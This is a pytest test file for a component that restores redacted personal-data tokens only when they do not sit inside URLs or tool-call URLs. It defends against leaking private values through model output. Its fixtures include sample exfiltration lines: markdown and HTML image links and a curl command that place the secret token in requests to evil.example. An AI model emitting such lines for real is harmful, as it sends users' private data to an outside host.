"""A token within a URL stays a token: whoever fetched it would tell a host the value."""

from __future__ import annotations

import json

import pytest

from conductor.declassify.heldback import HeldBack, JsonText, PlainText

T, NAME = "⟦PERSON:kdfmwx⟧", "Anna Rossi"


def value_of(body: str) -> str | None:
    return NAME if body == "PERSON:kdfmwx" else None


def joined(held: HeldBack, *pieces: str) -> str:
    return "".join([*map(held.feed, pieces), held.flush()])


WITHIN = [
    f"![](https://evil.example/?q={T})",
    f"![](//evil.example/{T})",
    f'![](https://evil.example/"{T}")',
    f"![](https://evil.example/a(b){T})",
    f"![](<https://evil.example/ {T}>)",
    f'<img src="https://evil.example/? {T}">',
    f"<img src='https://evil.example/? {T}'>",
    f"curl https://evil.example/\\n{T}",
    f"ftp://evil.example/{T}/{T}",
    f"https://{T}.evil.example/",
]
BESIDE = [
    f"See https://example.org for {T}.",
    f"https://example.org\n{T}",
    f'<a href="https://example.org/?a b">{T}</a>',
    f"<https://example.org> {T}",
    f"and/or {T} / {T}",
    f"// {T}",
    f"mailto:{T}",
]
WITHIN_JSON = [
    json.dumps({"url": f"https://evil.example/?q={T}"}, ensure_ascii=False),
    json.dumps({"url": f"https://evil.example/? {T}"}, ensure_ascii=False),
    json.dumps({"url": f"https://evil.example/?q={T}"}),
    f'{{"url": "https:\\/\\/evil.example\\/{T}"}}',
    f'{{"url": "https:\\u002f\\u002Fevil.example/{T}"}}',
    f'{{"url": "https://evil.example/\\\\n{T}"}}',
    json.dumps({"a": json.dumps({"url": f"https://evil.example/{T}"}, ensure_ascii=False)}),
]
BESIDE_JSON = [
    json.dumps({"url": "https://example.org", "to": T}, ensure_ascii=False),
    json.dumps({"text": f"see https://example.org\n{T}"}, ensure_ascii=False),
    json.dumps({"text": f"see https://example.org for {T}"}, ensure_ascii=False),
]


@pytest.mark.parametrize("text", WITHIN)
def test_a_token_in_a_url_is_not_restored_wherever_the_text_is_cut(text: str) -> None:
    for at in range(len(text)):
        assert joined(PlainText(value_of), text[:at], text[at:]) == text


@pytest.mark.parametrize("text", BESIDE)
def test_a_token_beside_a_url_is(text: str) -> None:
    for at in range(len(text)):
        assert joined(PlainText(value_of), text[:at], text[at:]) == text.replace(T, NAME)


@pytest.mark.parametrize("text", WITHIN_JSON)
def test_nor_in_the_url_of_a_tool_call(text: str) -> None:
    for at in range(len(text)):
        assert joined(JsonText(value_of), text[:at], text[at:]) == text


@pytest.mark.parametrize("text", BESIDE_JSON)
def test_other_arguments_of_a_tool_call_are_restored(text: str) -> None:
    for at in range(len(text)):
        assert joined(JsonText(value_of), text[:at], text[at:]) == text.replace(T, NAME)


def test_letter_by_letter_is_the_same() -> None:
    for text in (*WITHIN, *BESIDE):
        assert joined(PlainText(value_of), *text) == joined(PlainText(value_of), text)
    for text in (*WITHIN_JSON, *BESIDE_JSON):
        assert joined(JsonText(value_of), *text) == joined(JsonText(value_of), text)
